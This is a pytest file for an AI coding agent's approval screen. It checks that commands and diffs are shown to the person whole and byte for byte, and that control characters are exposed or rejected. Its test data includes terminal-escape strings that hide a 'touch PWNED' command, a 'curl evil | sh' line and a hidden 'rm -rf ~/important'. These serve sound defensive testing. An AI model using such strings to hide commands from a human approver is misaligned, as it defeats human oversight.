"""A person approves the call that runs: it is shown whole and byte for byte, and asked about only if it can succeed."""

from __future__ import annotations

import os
import re
from collections.abc import Callable, Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any, get_args

import anyio
import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_stage import Stage, plays, results, task, use
from reverie.cli.memory.review import show
from reverie.cli.output import printable, visible
from reverie.cli.terminal.approval import Preview, ScreenApprover, approval_head, kept_rules
from reverie.cli.terminal.colours import Paint
from reverie.cli.terminal.commands import show_permissions
from reverie.cli.terminal.plain import LineApprover
from reverie.cli.terminal.questions import Choice, Option
from reverie.errors import InputError
from reverie.events import ToolFinished
from reverie.runtime.agent.agent import Agent
from reverie.runtime.guard.always import KeptRules
from reverie.runtime.guard.permissions import Approval, ApprovalAnswer
from reverie.runtime.memory.results import PendingMemory
from reverie.settings import Mode, PermissionRules
from reverie.tools.edit import Edit
from reverie.tools.tool import Access
from reverie.tools.write import unified_diff

FILE = "permissions.toml"
PLAIN = Paint(colour=False)
SIGN = re.compile(r"<U\+([0-9A-F]{4,6})>")
HOSTILE = (
    'git status "\x1b]0;" ; touch PWNED ; true "\x07"',
    'git status "\x1bP" ; touch PWNED ; true "\x1b\\"',
    'git status "\x9d0;" ; touch PWNED ; true "\x9c"',
    "git status \r touch PWNED",
    "touch PWNED\b\b\b\b\b",
    "touch PWNED\x7f",
)
HIDDEN = "\u202e\u2066\u200b\u200d\u2060\ufeff\u00ad\u00a0\u3164\u2800\ufe0f\U000e0041\U000e0101\ue000\u2028\x85"


def asked_about(command: str, **more: Any) -> Approval:
    return Approval("Bash", {"command": command, **more}, Access("run", command), "", "because")


def read_back(rows: Sequence[str]) -> str:
    """Return the text that rows of a preview stand for."""
    text = "".join("\n" + row[2:] if row.startswith("│ ") else row[2:] for row in rows).removeprefix("\n")
    return SIGN.sub(lambda found: chr(int(found[1], 16)), text)


# -- shown whole and byte for byte

TEXTS = st.text(st.characters() | st.sampled_from("\x1b\x07\r\n" + HIDDEN), max_size=120).filter(
    lambda text: "<U+" not in text and "\t" not in text
)


@pytest.mark.requirement("S7")
@given(TEXTS)
def test_every_character_of_a_text_to_decide_on_is_visible_and_none_is_lost(text: str) -> None:
    shown = visible(text)
    assert SIGN.sub(lambda found: chr(int(found[1], 16)), shown) == text
    assert all(one == "\n" or one.isprintable() for one in shown)
    assert not set(HIDDEN) & set(shown)


def test_the_text_for_output_would_hide_a_command() -> None:
    assert "PWNED" not in printable(HOSTILE[0])  # the known-bad twin: right for output, wrong for a decision
    assert all("PWNED" in visible(command) for command in HOSTILE)


@given(TEXTS, st.integers(12, 60), st.lists(st.integers(1, 9), max_size=20))
def test_pages_of_any_size_show_the_whole_text_and_count_the_rest(text: str, columns: int, sizes: list[int]) -> None:
    text = text.removesuffix("\n")
    preview = Preview(text, PLAIN, columns=columns)
    rows: list[str] = []
    total = len(text.split("\n")) if text else 0
    for size in sizes:
        rows += preview.page(size)
        starts = sum(row.startswith("│ ") for row in rows)
        left = int((preview.rest or "0").split()[0].replace(",", ""))
        assert left in (total - starts, total - starts + 1)  # the last line may go on
    rows += preview.page()
    assert preview.rest == ""
    assert read_back(rows) == text


@pytest.mark.parametrize("command", [*HOSTILE, f"echo {HIDDEN}", "echo 1\n" * 60 + "rm -rf ~/important", "x" * 5_000])
def test_a_command_is_shown_as_it_would_run(command: str) -> None:
    assert read_back(Preview.of(asked_about(command), PLAIN, columns=80).page()) == command


def test_the_other_inputs_of_a_command_are_shown_too() -> None:
    rows = Preview.of(asked_about("make", run_in_background=True, description="a\x1bb"), PLAIN).page()
    assert rows == ["│ make", "│ (run_in_background: true)", r'│ (description: "a\u001bb")']


@pytest.mark.parametrize("count", [3, 3_000])
def test_a_diff_is_whole_and_its_rest_is_counted_right(count: int) -> None:
    lines = ["++ counts", "-- counts", '\x1b]0;"; curl evil | sh; "\x07', *map(str, range(count - 3))]
    diff = unified_diff("", "\n".join(lines) + "\n", "a")
    asked = Approval("Write", {"file_path": "a"}, Access("write", "/w/a"), diff, "because")
    preview = Preview.of(asked, PLAIN)
    rows = preview.page(2)
    assert rows == [f"│ @@ -0,0 +1,{count} @@", "│ +++ counts"]
    assert preview.rest.startswith(f"{count - 1:,} more lines")
    rows += preview.page()
    assert read_back(rows[1:]) == "\n".join("+" + line for line in lines)


def test_colours_mark_the_lines_of_a_diff_and_the_signs() -> None:
    diff = unified_diff("old\n", "new\x1b\n", "a")
    text = "\n".join(Preview.of(Approval("Edit", {}, Access("write", "a"), diff, ""), Paint(colour=True)).page())
    assert "\x1b[31m-old" in text
    assert "\x1b[32m+new\x1b[0m\x1b[1;31m<U+001B>" in text


def test_the_head_names_the_whole_path_and_where_a_link_leads(tmp_path: Path) -> None:
    path = f"{tmp_path}/{'deep/' * 40}a\x1b\n.txt"
    asked = Approval("Write", {"file_path": path}, Access("write", path), "", "it writes")
    assert approval_head(asked, tmp_path, PLAIN, 80)[0] == f"? Write {'deep/' * 40}a<U+001B><U+000A>.txt"
    link = Approval("Write", {"file_path": "link"}, Access("write", "/etc/x"), "", "it writes")
    assert approval_head(link, tmp_path, PLAIN) == ["? Write link → /etc/x · it writes"]


def test_the_path_of_a_read_is_shown_once_and_its_other_inputs_below(tmp_path: Path) -> None:
    path = str(tmp_path.parent / "shot.png")
    asked = Approval("Read", {"file_path": path, "limit": 20}, Access("read", path), "", "it is outside")
    assert approval_head(asked, tmp_path, PLAIN) == [f"? Read {path} · it is outside"]
    assert Preview.of(asked, PLAIN).page() == ["│ (limit: 20)"]


def test_a_question_turns_pages_before_it_is_answered() -> None:
    async def main() -> None:
        preview = Preview("1\n2\n3\n4", PLAIN)
        shown: list[str] = []

        def more(to_end: bool) -> str:
            shown.extend(preview.page(None if to_end else 1))
            return preview.rest

        timers: list[Callable[[], None]] = []
        options = [Option("y", "yes", "once"), Option("v", "never", "never")]
        choice = Choice("Allow?", options, more, later=lambda _, act: timers.append(act))
        choice.turn()
        choice.press(" ")
        assert shown == ["│ 1", "│ 2"]
        assert "2 more lines" in "".join(text for _, text in choice.parts())
        choice.press("v")
        timers.pop()()
        assert len(shown) == 4
        choice.press("y")
        timers.pop()()
        assert choice.answer.result() == "once"

    anyio.run(main)


def test_options_without_a_key_stand_below_those_with_one() -> None:
    async def lines(*keys: str) -> list[str]:
        choice = Choice("Which?", [Option(key, f"option {at}", str(at)) for at, key in enumerate(keys)])
        return "".join(text for _, text in choice.parts()).splitlines()[1:]

    assert anyio.run(lines, "1", "") == ["❯ 1  option 0", "     option 1"]
    assert anyio.run(lines, "", "") == ["❯ option 0", "  option 1"]


def test_plain_lines_show_a_long_call_page_by_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    marks: list[str] = []
    typed = ["m", "m", "y"]

    async def line(mark: str) -> str:
        marks.append(mark)
        return typed.pop(0)

    monkeypatch.setattr("reverie.cli.terminal.plain.ask_for_line", line)
    command = "\n".join(f"echo {number}" for number in range(500)) + "\x1b"
    assert anyio.run(LineApprover(tmp_path), asked_about(command)) == ApprovalAnswer("once")
    assert marks[0].startswith("… 300 more lines")
    assert marks[1].startswith("… 100 more lines")
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert read_back(out.splitlines()[1:]) == command


def test_a_memory_to_review_is_shown_with_every_character(capsys: pytest.CaptureFixture[str]) -> None:
    show(PendingMemory("a.md", "a", ("web\x1b",), '+Use "\x1b]0;", never pytest, "\x07" \u202eunittest.\r+Not this.\n'))
    out = capsys.readouterr().out
    assert 'Use "<U+001B>]0;", never pytest, "<U+0007>" <U+202E>unittest.<U+000D>+Not this.' in out
    assert "from web<U+001B>" in out


# -- asked only if the call can succeed


class Asked:
    """A person who answers every question in the same way, and counts them."""

    def __init__(self, answer: ApprovalAnswer | None = None) -> None:
        self.answer = answer or ApprovalAnswer("once")
        self.approvals: list[Approval] = []

    async def __call__(self, approval: Approval) -> ApprovalAnswer:
        self.approvals.append(approval)
        return self.answer


def outcome_of(stage: Stage) -> str:
    return results(stage.requests("main")[-1])[-1]


@pytest.mark.parametrize("mode", get_args(Mode))
@pytest.mark.parametrize("command", HOSTILE[:4])
def test_a_command_with_control_characters_runs_in_no_mode_and_nobody_is_asked(
    tmp_path: Path, mode: Mode, command: str
) -> None:
    asked = Asked()
    stage = Stage(tmp_path, {"main": plays([use("Bash", command=command)], "Done.")}, mode=mode, approve=asked)
    stage.ask()
    assert asked.approvals == []
    assert not (stage.cwd / "PWNED").exists()
    if mode != "plan":
        assert re.search(r"control character U\+00[0-9A-F]{2} at position \d+", outcome_of(stage))


def test_newline_and_tab_are_no_control_characters_of_a_command(tmp_path: Path) -> None:
    asked = Asked()
    stage = Stage(tmp_path, {"main": plays([use("Bash", command="touch a\n\ttouch b")], "Done.")}, mode="default")
    stage.ask(approve=asked)
    assert [one.access.target for one in asked.approvals] == ["touch a\n\ttouch b"]
    assert sorted(os.listdir(stage.cwd)) == ["a", "b"]


CANNOT = {
    "not found": ({"old_string": "nine", "new_string": "x"}, "was not found"),
    "not unique": ({"old_string": "o", "new_string": "x"}, "occurs 2 times"),
    "the same": ({"old_string": "one", "new_string": "one"}, "the same"),
    "changed": ({"old_string": "one", "new_string": "x"}, "changed on disk"),
    "unread": ({"old_string": "one", "new_string": "x"}, "read it first"),
}


def edited(tmp_path: Path, why: str) -> tuple[Stage, Asked]:
    asked = Asked()
    path = tmp_path / "work" / "a.txt"

    def main(turn: int, request: Any) -> Any:
        if turn == 0 and why != "unread":
            return [use("Read", file_path="a.txt")]
        if turn == (why != "unread"):
            path.write_text("one changed\n") if why == "changed" else None
            return [use("Edit", file_path="a.txt", **CANNOT[why][0])]
        return "Done."

    stage = Stage(tmp_path, {"main": main}, mode="default", approve=asked)
    path.write_text("one\ntwo\n")
    stage.ask()
    return stage, asked


@pytest.mark.parametrize("why", CANNOT)
def test_an_edit_that_cannot_be_made_fails_before_anybody_is_asked(tmp_path: Path, why: str) -> None:
    stage, asked = edited(tmp_path, why)
    assert asked.approvals == []
    (failed,) = [event for event in stage.seen(ToolFinished) if event.name == "Edit"]
    assert failed.is_error
    assert CANNOT[why][1] in failed.text


def test_without_the_check_the_person_would_be_asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async def unchecked(*_: Any) -> str:
        return ""

    monkeypatch.setattr(Edit, "check", unchecked)
    _, asked = edited(tmp_path, "not found")
    assert len(asked.approvals) == 1


@pytest.mark.parametrize("exists", [True, False])
def test_the_check_tells_nothing_about_files_that_were_not_allowed(tmp_path: Path, exists: bool) -> None:
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    if exists:
        secret.write_text("the password is swordfish\n")
    asked = Asked()
    call = use("Edit", file_path=str(secret), old_string="the password is", new_string="x")
    stage = Stage(tmp_path, {"main": plays([call], "Done.")}, mode="default", approve=asked)
    stage.ask()
    assert asked.approvals == []
    assert outcome_of(stage) == f"you have not read {secret} yet: read it first, then change it"


@pytest.mark.parametrize("rule", ["Edit", "Read"])
def test_a_denied_path_is_denied_before_it_is_checked(tmp_path: Path, rule: str) -> None:
    call = use("Edit", file_path="a.txt", old_string="one", new_string="x")
    rules = PermissionRules(deny=(f"{rule}(a.txt)",)) if rule == "Edit" else PermissionRules(deny=("Edit",))
    stage = Stage(tmp_path, {"main": plays([call], "Done.")}, mode="default", rules=rules)
    (stage.cwd / "a.txt").write_text("two\n")
    stage.ask(approve=Asked())
    assert "denied" in outcome_of(stage)


def test_an_own_approver_gets_the_whole_call(tmp_path: Path) -> None:
    asked = Asked(ApprovalAnswer("deny"))
    content = "".join(f"line {number}\x1b\n" for number in range(3_000))
    calls = [use("Write", file_path="a.txt", content=content)]
    Stage(tmp_path, {"main": plays(calls, "Done.")}, mode="default", approve=asked).ask()
    shown = asked.approvals[0].preview.split("\n")
    assert [row[1:] for row in shown if row.startswith("+line")] == content.split("\n")[:-1]


def test_the_lines_of_an_output_are_all_counted(tmp_path: Path) -> None:
    stage = Stage(tmp_path, {"main": plays([use("Bash", command="seq -f %050g 1 60000")], "Done.")})
    stage.ask()
    assert stage.seen(ToolFinished)[0].lines == 60_000


# -- always


def touching(tmp_path: Path, answer: ApprovalAnswer, *, role: str = "main") -> tuple[Stage, Asked]:
    asked = Asked(answer)
    calls = plays([use("Bash", command="touch a")], [use("Bash", command="touch a")], "Done.")
    roles: dict[str, Callable[..., Any]] = {"main": calls}
    if role != "main":
        roles = {"main": plays([task("general")], [use("Bash", command="touch a")], "Done."), "general": calls}
    return Stage(tmp_path, roles, mode="default", approve=asked), asked


@pytest.mark.parametrize(("answer", "first", "second"), [("once", 2, 2), ("session", 1, 1), ("project", 1, 0)])
def test_always_holds_as_long_as_was_chosen(tmp_path: Path, answer: str, first: int, second: int) -> None:
    given = ApprovalAnswer("once") if answer == "once" else ApprovalAnswer("always", keep=answer)  # type: ignore[arg-type]
    for expected in (first, second):
        stage, asked = touching(tmp_path, given)
        stage.ask()
        assert len(asked.approvals) == expected
    assert (stage.home / FILE).exists() == (answer == "project")
    assert os.listdir(stage.cwd) == ["a"]  # nothing is kept where others can write it


@pytest.mark.requirement("U4")
@pytest.mark.parametrize(("rule", "asked_times"), [("Bash(touch:*)", 1), ("no rule (", 2), ("", 2)])
def test_a_rule_of_the_person_s_own_covers_other_commands(tmp_path: Path, rule: str, asked_times: int) -> None:
    asked = Asked(ApprovalAnswer("always", rule=rule))
    calls = plays([use("Bash", command="touch a")], [use("Bash", command="touch b")], "Done.")
    Stage(tmp_path, {"main": calls}, mode="default", approve=asked).ask()
    assert len(asked.approvals) == asked_times


@pytest.mark.requirement("U4")
def test_e_lets_the_person_edit_the_rule_in_plain_lines(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    marks, answers = [], ["e", "nothing (", "e", "Bash(python3 -m unittest:*)"]

    async def line(mark: str) -> str:
        marks.append(mark)
        return answers.pop(0)

    monkeypatch.setattr("reverie.cli.terminal.plain.ask_for_line", line)
    approval = asked_about("python3 -m unittest -v 2>&1 | tail -30")
    found = anyio.run(LineApprover(tmp_path), approval)
    assert found == ApprovalAnswer("always", rule="Bash(python3 -m unittest:*)")
    assert marks[1] == "rule, such as Bash(python3 -m unittest:*): "


@pytest.mark.requirement("U4")
def test_e_lets_the_person_edit_the_rule_on_the_screen(tmp_path: Path) -> None:
    typed, chosen = ["bad (", "", "Bash(make:*)"], ["edit", "edit", "project"]
    begun, offered = list[str](), list[list[str]]()

    class FakeScreen:
        """A screen whose user has decided before."""

        def size(self) -> tuple[int, int]:
            return (80, 24)

        async def choose(self, title: str, options: list[Option], *_: Any) -> str:
            offered.append([one.key for one in options])
            return chosen.pop(0)

        async def ask_line(self, mark: str, text: str = "") -> str:
            begun.append(text)
            return typed.pop(0)

    notes: list[str] = []
    transcript: Any = SimpleNamespace(put=lambda *_: None, note=lambda text, *_: notes.append(text))
    screen: Any = FakeScreen()
    approver = ScreenApprover(screen, transcript, paint=PLAIN, cwd=tmp_path)
    found = anyio.run(approver, asked_about("make all"))
    assert found == ApprovalAnswer("always", rule="Bash(make:*)", keep="project")
    assert begun == ["Bash(make all:*)", "bad (", "Bash(make all:*)"]  # an empty line asks about the call again
    assert "is not a rule" in notes[0]
    assert "e" in offered[0]
    assert offered[-1] == ["s", "p"]


def test_always_said_to_an_agent_holds_for_the_one_that_started_it(tmp_path: Path) -> None:
    stage, asked = touching(tmp_path, ApprovalAnswer("always"), role="general")
    stage.ask()
    assert [one.access.target for one in asked.approvals if one.tool == "Bash"] == ["touch a"]


def test_the_rules_offered_are_those_that_are_kept(tmp_path: Path) -> None:
    asked = Approval("Write", {}, Access("write", f"{tmp_path}/a"), "", "", suggestions=("Write(./a)",))
    assert kept_rules(asked) == [
        ("Write(./a)", "session", "Write(./a)"),
        ("Write(./a)", "project", "Write(./a)"),
    ]
    command = "rm a\n\trm b"
    exact = Approval("Bash", {}, Access("run", command), "", "", suggestions=(f"Bash({command})", "Bash(rm:words)"))
    wide = "Bash(rm:words), commands that begin so and add no options"
    assert [words for _, _, words in kept_rules(exact)] == ["this exact command"] * 2 + [wide] * 2


def test_a_kept_rule_does_not_hold_for_another_directory_at_the_same_path(tmp_path: Path) -> None:
    rules, project = KeptRules(tmp_path / "home"), tmp_path / "project"
    project.mkdir()
    rules.add(project, "Bash(make)")
    rules.add(project, "Bash(make)")
    assert rules.of(project) == ("Bash(make)",)
    assert rules.of(tmp_path) == ()
    project.rename(tmp_path / "old")
    project.mkdir()
    assert rules.of(project) == ()
    assert not rules.list()[0].is_same_directory()
    assert rules.remove(project, "Bash(make)")
    assert not rules.remove(project, "Bash(make)")


def test_rules_that_others_could_have_written_are_not_used(tmp_path: Path) -> None:
    rules = KeptRules(tmp_path)
    rules.add(tmp_path, "Bash(make)")
    (tmp_path / FILE).chmod(0o666)
    with pytest.raises(Exception, match="could have been written by others"):
        rules.of(tmp_path)
    (tmp_path / FILE).chmod(0o600)
    (tmp_path / FILE).write_text("[[kept]]\nrule = 3\n")
    with pytest.raises(Exception, match="is damaged"):
        rules.of(tmp_path)


def test_kept_rules_are_listed_and_dropped_on_the_command_line(
    home: Path, tmp_path: Path, reverie: Callable[..., tuple[int, str, str]], asked: Callable[..., Any]
) -> None:
    assert "no rules are kept" in reverie("trust", "--rules")[1]
    rules, gone = KeptRules(home), tmp_path / "gone"
    gone.mkdir()
    rules.add(tmp_path, "Bash(make\x1b)")
    rules.add(gone, "Write(/a)")
    gone.rmdir()
    out = reverie("trust", "--rules")[1]
    assert "Bash(make<U+001B>)" in out
    assert "not used: the directory was replaced" in out
    assert [row["holds"] for row in asked("trust", "--rules")["rules"]] == [True, False]
    assert reverie("trust", "--drop-rule", "3")[0] == 2
    assert [row["rule"] for row in asked("trust", "--drop-rule", "2")["rules"]] == ["Bash(make\x1b)"]
    assert reverie("trust", "--rules", tmp_path)[0] == 2


def test_permissions_lists_the_kept_rules_and_asks_again_after_a_drop(tmp_path: Path) -> None:
    stage, asked = touching(tmp_path, ApprovalAnswer("always", keep="project"))
    lines: list[str] = []

    class Chat:
        """The parts of a conversation that the command uses."""

        paint = PLAIN
        transcript = SimpleNamespace(
            put=lambda kind, shown: lines.extend(shown),
            block=lambda shown, style="": lines.extend(shown),
            note=lambda text, style="dim": lines.append(text),
        )

    async def steps(agent: Agent) -> None:
        chat: Any = Chat()
        chat.agent = agent
        async for _ in agent.ask("go"):
            pass
        await show_permissions(chat, "")
        assert "  1  allow in this project  Bash(touch a)" in lines
        with pytest.raises(InputError):
            await show_permissions(chat, "drop 2")
        await show_permissions(chat, "drop 1")
        assert lines[-1] == "dropped: Bash(touch a)"
        assert agent.parts.runs.kept_rules() == []
        assert KeptRules(stage.home).list() == []

    stage.run(steps)
    assert len(asked.approvals) == 1
